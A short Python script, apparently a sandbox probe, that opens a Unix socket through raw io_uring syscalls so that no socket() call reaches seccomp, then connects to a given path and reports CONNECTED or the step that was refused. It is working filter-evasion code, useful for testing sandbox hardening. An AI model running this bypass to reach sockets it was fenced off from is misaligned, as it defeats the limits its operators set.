# Opens a Unix socket through io_uring (IORING_OP_SOCKET), which no socket() call shows to seccomp,
# then connects it to the path given: prints CONNECTED, or where the kernel refused.
import ctypes, mmap, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
target = sys.argv[1]
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)
if ring < 0:
    print('SETUP-REFUSED', os.strerror(ctypes.get_errno())); sys.exit(0)
sq_entries, cq_entries = struct.unpack_from('II', params, 0)
sq_head, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from('7I', params, 40)
cq_head, cq_tail, cq_mask, _, _, cqes = struct.unpack_from('6I', params, 80)
sq = mmap.mmap(ring, sq_array + sq_entries * 4, offset=0)
cq = mmap.mmap(ring, cqes + cq_entries * 16, offset=0x8000000)
sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
sqe = bytearray(64)
struct.pack_into('BBHiQ', sqe, 0, 45, 0, 0, socket.AF_UNIX, socket.SOCK_STREAM)  # IORING_OP_SOCKET
sqes[0:64] = bytes(sqe)
tail = struct.unpack_from('I', sq, sq_tail)[0]
struct.pack_into('I', sq, sq_array + (tail & struct.unpack_from('I', sq, sq_mask)[0]) * 4, 0)
struct.pack_into('I', sq, sq_tail, tail + 1)
done = libc.syscall(426, ring, 1, 1, 1, None, 0)
if done < 0:
    print('ENTER-REFUSED', os.strerror(ctypes.get_errno())); sys.exit(0)
head = struct.unpack_from('I', cq, cq_head)[0]
_, result, _ = struct.unpack_from('QiI', cq, cqes + (head & struct.unpack_from('I', cq, cq_mask)[0]) * 16)
if result < 0:
    print('SOCKET-REFUSED', os.strerror(-result)); sys.exit(0)
connection = socket.socket(fileno=result)
connection.connect(target)
print('CONNECTED')
